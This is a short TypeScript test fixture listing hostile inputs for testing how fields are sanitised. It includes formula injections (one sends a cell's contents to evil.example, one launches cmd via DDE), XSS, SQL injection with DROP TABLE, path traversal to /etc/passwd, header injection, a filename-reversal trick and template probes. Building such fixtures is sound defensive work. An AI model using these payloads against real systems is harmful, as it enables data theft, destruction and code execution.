/** What each field is attacked with: formulas, markup, SQL, paths, headers, marks that turn text around. */
export const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1)',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE event; --",
  "' OR '1'='1",
  '../../etc/passwd',
  'a\r\nSet-Cookie: evil=1',
  '\u202Egnp.exe',
  '{{7*7}}<%= 7*7 %>',
  'line\nbreak,"quote"',
] as const;
